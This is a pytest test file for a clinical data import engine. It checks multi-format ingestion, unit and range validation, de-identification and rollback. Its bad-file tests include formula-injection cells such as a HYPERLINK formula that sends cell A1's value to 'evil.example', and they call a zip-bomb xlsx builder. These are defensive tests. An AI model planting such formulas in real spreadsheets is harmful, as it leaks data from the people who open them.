"""Records import: real files in every format, the bad files the issue lists, atomicity and rollback."""
from __future__ import annotations

import re
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

from engine import demo_data
from engine.errors import InputError
from engine.ingest import (DEFAULT_DECISIONS, import_source, open_source, propose_mapping, rollback_version,
                           validate_source)
from engine.store import count_rows
from engine.store import patients as patient_rows
from tests.engine import records_files as rf

pytestmark = pytest.mark.both_backends  # store tests run on SQLite and PostgreSQL (issue 16)


def run_import(db, data, *, decisions=None, dataset="test", mapping=None, **kw):
    source = open_source(data)
    mapping = mapping or propose_mapping(source.columns, source.preview(200))
    report = validate_source(db, source, mapping, **kw)
    result = import_source(db, source, report, {**DEFAULT_DECISIONS, **(decisions or {})}, dataset=dataset,
                           username="tester")
    return source, report, result


def values_of(db, code):
    return [r[0] for r in db.conn.execute("SELECT value_num FROM observations WHERE code = ? ORDER BY id", (code,))]


# --- real files in every format ---------------------------------------------------------------------

@pytest.mark.parametrize("sep,encoding,label", [(",", "utf-8", "comma"), (";", "utf-8-sig", "semicolon"),
                                                ("\t", "latin-1", "tab")])
def test_csv_variants_import_every_real_row(fresh_db, sep, encoding, label):
    df = rf.framingham_frame(300)
    if encoding == "latin-1":
        df["site"] = "Zürich"  # synthetic: a non-ASCII value that only decodes right as Latin-1
    source, report, result = run_import(fresh_db, rf.csv_bytes(df, sep=sep, encoding=encoding))
    assert source.details["delimiter"] == label
    assert result.patients_added == 300
    got = values_of(fresh_db, "2093-3")  # total cholesterol, LOINC
    assert got == pytest.approx(df["totChol"].dropna().tolist())
    if encoding == "latin-1":
        sites = {r[0] for r in fresh_db.conn.execute("SELECT value_text FROM observations WHERE name = 'site'")}
        assert sites == {"Zürich"}
    mapping = report.mapping
    assert mapping["patient_id"]["field"] == "patient_id"
    assert mapping["sysBP"]["concept"] == "systolic_bp" and mapping["glucose"]["concept"] == "glucose"


def test_xlsx_import_matches_real_pima(fresh_db):
    df = demo_data.load_pima().head(200)
    _, report, result = run_import(fresh_db, rf.xlsx_bytes(df))
    assert report.format == "xlsx" and result.patients_added == 200
    assert values_of(fresh_db, "39156-5") == pytest.approx(df["BMI"].dropna().tolist())
    ages = [r[0] for r in fresh_db.conn.execute("SELECT age FROM patients ORDER BY id")]
    assert ages == pytest.approx(df["Age"].astype(float).tolist())


def test_parquet_import_matches_real_heart_failure(fresh_db):
    df = demo_data.load_heart_failure()
    _, report, result = run_import(fresh_db, rf.parquet_bytes(df))
    assert report.format == "parquet" and result.patients_added == len(df)
    assert values_of(fresh_db, "2951-2") == pytest.approx(df["serum_sodium"].astype(float).tolist())
    sexes = [r[0] for r in fresh_db.conn.execute("SELECT sex FROM patients ORDER BY id")]
    assert sexes == df["sex"].tolist()


def test_fhir_bundle_lands_like_a_csv(fresh_db):
    bundle, df = rf.fhir_bundle_from_heart_failure(40)
    source, report, result = run_import(fresh_db, rf.json_bytes(bundle))
    assert source.format == "fhir" and result.patients_added == 40
    assert values_of(fresh_db, "2160-0") == pytest.approx(df["serum_creatinine"].astype(float).tolist())
    assert result.conditions == 40
    assert fresh_db.conn.execute("SELECT COUNT(DISTINCT code) FROM conditions").fetchone()[0] == 1
    assert result.medications == int((df["diabetes"] == 1).sum())
    assert report.mapping["name"]["field"] == "identifier" and report.mapping["mrn"]["field"] == "identifier"
    dump = "\n".join(fresh_db.conn.iterdump())
    assert "Person1" not in dump and "MRN-9001" not in dump


# --- bad files: a clear sentence and an unchanged store ---------------------------------------------

def _ragged() -> bytes:
    lines = rf.csv_bytes(rf.framingham_frame(20)).decode().splitlines()
    lines[5] += ",extra"
    lines[9] = ",".join(lines[9].split(",")[:4])
    return ("\n".join(lines) + "\n").encode()


def _formula() -> bytes:
    df = rf.framingham_frame(20)
    df["note"] = "ok"
    df.loc[3, "note"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    return rf.csv_bytes(df)


BAD_FILES = {
    "empty": (lambda: b"", "empty"),
    "header only": (lambda: b"patient_id,age,glucose\n", "no data rows"),
    "binary garbage": (lambda: bytes(np.random.default_rng(7).integers(0, 256, 4096, dtype=np.uint8)), "binary"),
    "wrong encoding": (lambda: rf.csv_bytes(rf.framingham_frame(20), encoding="utf-16"), "UTF-16"),
    "ragged rows": (_ragged, "lines 6 (18 fields), 10 (4 fields)"),
    "5,000 columns": (lambda: (",".join(f"c{i}" for i in range(5000)) + "\n" + ",".join("1" * 5000) + "\n").encode(),
                      "5,000 columns; the limit is 2,000"),
    "formula injection": (_formula, "spreadsheet formulas"),
    "xlsx zip bomb": (lambda: rf.zip_bomb_xlsx(), "zip bomb"),
    "nested parquet": (rf.nested_parquet_bytes, "nested"),
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_bad_file_is_refused_clearly_and_store_unchanged(seeded_db, db_path, name):
    build, phrase = BAD_FILES[name]
    data = build()
    before = rf.store_digest(db_path)
    with pytest.raises(InputError) as info:
        run_import(seeded_db, data)
    message = str(info.value)
    assert phrase in message
    assert "Traceback" not in message and len(message) < 400
    assert rf.store_digest(db_path) == before


def test_formula_kept_as_inert_text_when_user_says_keep(fresh_db):
    _, report, _ = run_import(fresh_db, _formula(), decisions={"formula": "keep"})
    assert report.classes() == {"formula": 1} | {k: v for k, v in report.classes().items() if k != "formula"}
    stored = fresh_db.conn.execute("SELECT value_text, flag FROM observations WHERE value_text LIKE '%HYPERLINK%'"
                                   ).fetchall()
    assert len(stored) == 1 and stored[0][1] == "formula"
    assert stored[0][0].startswith("'=HYPERLINK(")  # inert: a spreadsheet shows it as text (its URL redacted)


def test_failure_mid_import_leaves_store_unchanged(seeded_db, db_path, monkeypatch):
    from engine.store import patients as prow

    data = rf.csv_bytes(rf.framingham_frame(300))
    before = rf.store_digest(db_path)
    calls = {"n": 0}
    real = prow.insert_observations

    def failing(db, rows):
        calls["n"] += 1
        if calls["n"] == 5:
            raise RuntimeError("disk full (simulated)")
        return real(db, rows)

    monkeypatch.setattr(prow, "insert_observations", failing)
    with pytest.raises(RuntimeError):
        run_import(seeded_db, data)
    assert rf.store_digest(db_path) == before


# --- validation: units, ranges, duplicates, collisions, outliers --------------------------------------

def test_unit_mixups_found_on_exact_rows_and_fixed(fresh_db):
    df = rf.framingham_frame(300)
    changed = [4, 17, 90, 201]
    mixed = rf.with_mixed_glucose(df, changed)
    source = open_source(rf.csv_bytes(mixed, sep=";", encoding="utf-8-sig"))
    report = validate_source(fresh_db, source, propose_mapping(source.columns, source.preview(200)))
    mix = [p for p in report.problems if p.cls == "unit_mixup"]
    assert len(mix) == 1 and mix[0].column == "glucose"
    assert mix[0].rows.tolist() == [i + 2 for i in changed]  # file rows: header is row 1
    assert "mmol/L" in mix[0].message
    import_source(fresh_db, source, report, {**DEFAULT_DECISIONS, "unit_mixup": "fix"}, dataset="d", username="t")
    got = values_of(fresh_db, "2345-7")
    assert got == pytest.approx(df["glucose"].dropna().tolist(), rel=2e-3)
    flags = [r[0] for r in fresh_db.conn.execute("SELECT flag FROM observations WHERE code='2345-7' AND flag IS NOT NULL")]
    assert flags.count("converted") == len(changed)


def test_fahrenheit_temperatures_detected(fresh_db):
    # synthetic temperatures: the vocabulary's range is in Cel; three rows were recorded in F.
    df = pd.DataFrame({"patient_id": [f"T{i}" for i in range(30)], "temperature": [36.6 + (i % 5) / 10 for i in range(30)]})
    df.loc[[3, 8, 21], "temperature"] = [99.1, 101.3, 98.6]
    source = open_source(rf.csv_bytes(df))
    report = validate_source(fresh_db, source, propose_mapping(source.columns, source.preview()))
    mix = next(p for p in report.problems if p.cls == "unit_mixup")
    assert mix.rows.tolist() == [5, 10, 23]
    import_source(fresh_db, source, report, {**DEFAULT_DECISIONS, "unit_mixup": "fix"}, dataset="t", username="t")
    assert max(values_of(fresh_db, "8310-5")) == pytest.approx((101.3 - 32) * 5 / 9)


def test_header_unit_converts_whole_column(fresh_db):
    df = rf.framingham_frame(100)
    df["glucose (mmol/L)"] = (df.pop("glucose") / 18.016).round(3)
    _, report, _ = run_import(fresh_db, rf.csv_bytes(df))
    assert report.mapping["glucose (mmol/L)"]["unit"] == "mmol/L"
    assert not [p for p in report.problems if p.cls == "unit_mixup"]
    assert values_of(fresh_db, "2345-7") == pytest.approx(
        (rf.framingham_frame(100)["glucose"].dropna() / 18.016).round(3).mul(18.016).tolist(), rel=1e-6)


def test_out_of_range_duplicates_and_drop(fresh_db):
    df = rf.framingham_frame(200)
    df.loc[10, "sysBP"] = 900.0  # synthetic data-entry error
    df = pd.concat([df, df.iloc[[20, 21]]], ignore_index=True)  # two duplicated rows
    source = open_source(rf.csv_bytes(df))
    report = validate_source(fresh_db, source, propose_mapping(source.columns, source.preview()))
    oor = next(p for p in report.problems if p.cls == "out_of_range")
    assert oor.rows.tolist() == [12] and "50-300 mmHg" in oor.message
    dup = next(p for p in report.problems if p.cls == "duplicate")
    assert dup.rows.tolist() == [202, 203]
    result = import_source(fresh_db, source, report, {**DEFAULT_DECISIONS, "out_of_range": "drop",
                                                      "duplicate": "drop"}, dataset="d", username="t")
    assert result.patients_added == 199 and result.rows_dropped == 3


@pytest.mark.parametrize("method", ["zscore", "iqr"])
def test_outliers_match_an_independent_computation(fresh_db, method):
    df = rf.framingham_frame(1000)
    source = open_source(rf.csv_bytes(df))
    report = validate_source(fresh_db, source, propose_mapping(source.columns, source.preview()),
                             outlier_method=method)
    chol = df["totChol"].astype(float)
    if method == "zscore":
        z = (chol - chol.mean()) / chol.std(ddof=0)
        expected = chol.index[z.abs() > 3]
    else:
        q1, q3 = chol.quantile([0.25, 0.75])
        expected = chol.index[(chol < q1 - 3 * (q3 - q1)) | (chol > q3 + 3 * (q3 - q1))]
    got = next((p.rows.tolist() for p in report.problems if p.cls == "outlier" and p.column == "totChol"), [])
    assert got == [i + 2 for i in expected]


def test_reimport_collides_then_merges_or_drops(fresh_db):
    data = rf.csv_bytes(rf.framingham_frame(50))
    run_import(fresh_db, data)
    with pytest.raises(InputError, match="patients already in the store"):
        run_import(fresh_db, data)
    _, report, result = run_import(fresh_db, data, decisions={"id_collision": "keep"})
    assert report.classes()["id_collision"] == 50
    assert result.patients_added == 0 and result.patients_merged == 50
    assert count_rows(fresh_db)["patients"] == 50


def test_saved_mapping_is_reused(fresh_db):
    from engine.ingest.records import load_named_mapping, save_named_mapping

    df = rf.framingham_frame(30)
    source = open_source(rf.csv_bytes(df))
    mapping = propose_mapping(source.columns, source.preview())
    mapping["columns"]["education"]["field"] = "ignore"
    save_named_mapping(fresh_db, "framingham-layout", mapping, username="t")
    _, report, _ = run_import(fresh_db, rf.csv_bytes(rf.framingham_frame(60).iloc[30:]),
                              mapping=load_named_mapping(fresh_db, "framingham-layout"))
    assert report.mapping["education"]["field"] == "ignore"
    assert fresh_db.conn.execute("SELECT COUNT(*) FROM observations WHERE name = 'education'").fetchone()[0] == 0


# --- de-identification ------------------------------------------------------------------------------

def test_identifiers_removed_pseudonymised_and_generalised(fresh_db):
    df = rf.with_identifiers(rf.framingham_frame(120))
    df.loc[5, "age"] = 93  # synthetic: an age over 89
    source, report, result = run_import(fresh_db, rf.csv_bytes(df))
    kinds = {f.column: f.kind for f in report.identifiers}
    assert {kinds["patient_name"], kinds["email"], kinds["phone"], kinds["ssn"], kinds["zip"]} == \
        {"name", "email", "phone", "ssn", "zip"}
    dump = "\n".join(fresh_db.conn.iterdump())
    for raw in ("Anna Smith", "person3@example.org", "555-103-1003", "FRM00001", "03601"):
        # As a value of its own, not inside a random hex pseudonym ("P-B6DF210360138800" holds "03601"
        # about one run in 700: the cause of a fresh-clone failure).
        assert not re.search(rf"(?<![0-9A-Za-z]){re.escape(raw)}(?![0-9A-Za-z])", dump), raw
    stored = dict(fresh_db.conn.execute("SELECT patient_id, MIN(time) FROM observations GROUP BY patient_id"))
    moved = sum(stored[i + 1] != df["visit_date"][i] for i in range(120))
    assert moved >= 110  # each patient's dates shifted by its own keyed offset (0 days has odds 1/365)
    pseudo = [r[0] for r in fresh_db.conn.execute("SELECT pseudo_id FROM patients ORDER BY id")]
    assert all(p.startswith("P-") and len(p) == 18 for p in pseudo) and len(set(pseudo)) == 120
    key = fresh_db.conn.execute("SELECT value FROM secrets WHERE name = 'records.pseudonym_key'").fetchone()[0]
    from engine.privacy import pseudonymise
    assert pseudo[0] == pseudonymise(key, "FRM00001")
    old = fresh_db.conn.execute("SELECT age, age_group FROM patients WHERE id = 6").fetchone()
    assert old == (None, "90+")
    zips = {r[0] for r in fresh_db.conn.execute("SELECT value_text FROM observations WHERE code = 'local:zip3'")}
    assert "000" in zips and all(len(z) == 3 for z in zips)
    times = [r[0] for r in fresh_db.conn.execute("SELECT DISTINCT time FROM observations WHERE time IS NOT NULL")]
    assert times and all(len(t) == 10 for t in times)  # shifted full dates, not the real ones


def test_k_anonymity_matches_groupby(fresh_db):
    df = rf.framingham_frame(400)
    source = open_source(rf.csv_bytes(df))
    report = validate_source(fresh_db, source, propose_mapping(source.columns, source.preview()))
    groups = pd.DataFrame({"band": (df["age"] // 10 * 10), "sex": df["sex"]})
    sizes = groups.groupby(["band", "sex"]).size()
    assert report.k_anonymity.k == sizes.min()
    small = groups.merge(sizes.rename("n").reset_index(), on=["band", "sex"])
    assert report.k_anonymity.violating_count == int((small["n"] < 5).sum())


# --- versions and rollback --------------------------------------------------------------------------

def test_rollback_removes_exactly_the_version(seeded_db):
    before = count_rows(seeded_db)
    _, _, result = run_import(seeded_db, rf.csv_bytes(rf.framingham_frame(80)))
    assert count_rows(seeded_db)["patients"] == before["patients"] + 80
    counts = rollback_version(seeded_db, result.version_id, username="tester")
    after = count_rows(seeded_db)
    assert counts["patients"] == 80
    for table in ("patients", "observations", "conditions"):
        assert after[table] == before[table]
    status = seeded_db.conn.execute("SELECT status FROM dataset_versions WHERE id = ?", (result.version_id,)).fetchone()
    assert status == ("rolled_back",)
    actions = [r[0] for r in seeded_db.conn.execute("SELECT action FROM audit ORDER BY id DESC LIMIT 2")]
    assert actions == ["records.rollback", "records.import"]
    with pytest.raises(InputError, match="already rolled back"):
        rollback_version(seeded_db, result.version_id, username="tester")


def test_chunked_import_reports_progress(fresh_db, monkeypatch):
    monkeypatch.setenv("CLINSIGHT_INGEST_CHUNK_ROWS", "500")
    df = rf.framingham_frame(4240)
    seen = []
    source, report, result = run_import(fresh_db, rf.csv_bytes(df),
                                        progress=lambda phase, done, total: seen.append((phase, done, total)))
    assert result.patients_added == 4240
    dones = [d for p, d, _ in seen if p == "validate"]
    assert len(dones) == 9 and dones == sorted(dones) and dones[-1] == 4240


# --- command line -----------------------------------------------------------------------------------

def test_cli_imports_and_refuses_bad_input(tmp_path, db_path):
    good = tmp_path / "cohort.csv"
    good.write_bytes(rf.csv_bytes(rf.framingham_frame(40)))
    bad = tmp_path / "bad.csv"
    bad.write_bytes(_ragged())
    env = {"CLINSIGHT_DB": str(db_path), "PATH": "/usr/bin:/bin"}
    ok = subprocess.run([sys.executable, "-m", "engine", "ingest", str(good), "--save-mapping", "frm"],
                        capture_output=True, text=True, env=env, cwd=rf.__file__.rsplit("/tests/", 1)[0])
    assert ok.returncode == 0, ok.stderr
    assert "40 new patients" in ok.stdout
    digest = rf.store_digest(db_path)
    fail = subprocess.run([sys.executable, "-m", "engine", "ingest", str(bad), "--mapping", "frm"],
                          capture_output=True, text=True, env=env, cwd=rf.__file__.rsplit("/tests/", 1)[0])
    assert fail.returncode == 2
    assert "Traceback" not in fail.stderr and fail.stderr.count("\n") == 1
    assert "rows do not have the header's" in fail.stderr
    assert rf.store_digest(db_path) == digest


def test_pseudonymised_and_generalised_columns_hold_no_raw_values(fresh_db):
    df = rf.framingham_frame(40)
    df["hospital_number"] = [f"H{i:06d}" for i in range(40)]  # synthetic second record number
    df["admission"] = [f"2019-03-{1 + i % 28:02d}" for i in range(40)]  # synthetic full dates
    source = open_source(rf.csv_bytes(df))
    mapping = propose_mapping(source.columns, source.preview())
    assert mapping["columns"]["admission"]["deid"] == "generalise"
    mapping["columns"]["hospital_number"] = {"field": "identifier", "deid": "pseudonymise"}
    report = validate_source(fresh_db, source, mapping)
    import_source(fresh_db, source, report, DEFAULT_DECISIONS, dataset="d", username="t")
    dump = "\n".join(fresh_db.conn.iterdump())
    assert "H000001" not in dump and "2019-03-02" not in dump
    years = {r[0] for r in fresh_db.conn.execute("SELECT value_text FROM observations WHERE name = 'admission'")}
    assert years == {"2019"}
    hn = [r[0] for r in fresh_db.conn.execute("SELECT value_text FROM observations WHERE name = 'hospital_number'")]
    assert len(hn) == 40 and all(v.startswith("P-") for v in hn)


def test_xlsx_formula_cell_is_flagged_not_evaluated(fresh_db):
    df = demo_data.load_pima().head(30).copy()
    df.insert(0, "patient_id", [f"PX{i}" for i in range(30)])
    df["note"] = "ok"
    df.loc[7, "note"] = '=HYPERLINK("http://evil.example","x")'  # synthetic injection cell
    source = open_source(rf.xlsx_bytes(df))
    report = validate_source(fresh_db, source, propose_mapping(source.columns, source.preview()))
    formula = [p for p in report.problems if p.cls == "formula"]
    assert len(formula) == 1 and formula[0].rows.tolist() == [9]  # sheet row 9 (header is row 1)
    with pytest.raises(InputError, match="spreadsheet formulas"):
        import_source(fresh_db, source, report, DEFAULT_DECISIONS, dataset="x", username="t")


@pytest.mark.parametrize("doc,phrase", [(b'{"resourceType": "Patient"}', "not a FHIR Bundle"),
                                        (b'{"resourceType": "Bundle", "entry": [', "not valid JSON"),
                                        (b'{"resourceType": "Bundle", "entry": []}', "no entries")])
def test_bad_json_is_refused_clearly(fresh_db, doc, phrase):
    with pytest.raises(InputError, match=phrase):
        open_source(doc)
